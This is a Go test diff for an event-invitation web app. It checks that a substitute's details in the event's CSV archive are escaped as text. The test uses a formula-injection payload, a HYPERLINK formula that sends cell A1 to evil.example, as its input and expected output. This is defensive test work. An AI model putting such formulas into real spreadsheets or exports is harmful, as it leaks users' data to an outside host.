@@ -1,7 +1,10 @@
 package web_test
 
 import (
+	"archive/zip"
+	"bytes"
 	"context"
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"strings"
@@ -86,6 +89,38 @@ func TestConsoleEventsPrintInvitations(t *testing.T) {
 	text := paperstest.Collapse(strings.Join(paperstest.Text(t, pdf("/admin/papers/invitation.pdf?person=P001&event=hd2026")), " "))
 	mustContain(t, text, "GIẤY MỜI", "Kính gửi: Đồng chí Nguyễn Văn An", "hội đồng tư vấn xác định nhiệm vụ", "Phòng họp tầng 3",
 		"Số: /GM-SKHCN", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC", "Nguyễn Thị Phó", "Hưng Yên, ngày 20 tháng 7 năm 2026")
+
+	// The event's archive: a substitute's details typed as a formula are
+	// written as text (the same guard as the campaign archive's).
+	w.apply(t, domain.SaveRSVP{RSVP: domain.RSVP{PersonID: "P001", EventID: "hd2026", Status: domain.RSVPSubstitute, Channel: domain.Telegram,
+		Substitute: &domain.Substitute{Name: `=HYPERLINK("http://evil.example/?"&A1,"Xem")`, Position: "+Chuyên viên", Phone: "0944000333"}}})
+	resp = c.do("GET", "/admin/events/hd2026/archive.zip", nil, "")
+	raw := read(t, resp)
+	if resp.StatusCode != 200 {
+		t.Fatalf("archive: %d", resp.StatusCode)
+	}
+	zr, err := zip.NewReader(bytes.NewReader([]byte(raw)), int64(len(raw)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var answers [][]string
+	for _, f := range zr.File {
+		if f.Name != "tra-loi.csv" {
+			continue
+		}
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		answers, err = csv.NewReader(rc).ReadAll()
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(answers) != 2 || answers[1][3] != `'=HYPERLINK("http://evil.example/?"&A1,"Xem")` || answers[1][4] != "'+Chuyên viên" {
+		t.Errorf("the archive's answers: %q", answers)
+	}
 
 	// The clone keeps the source's issuer.
 	resp = c.post("/admin/events/hd2026/clone", url.Values{"code": {"HD2026B"}, "date": {"2026-09-10"}})
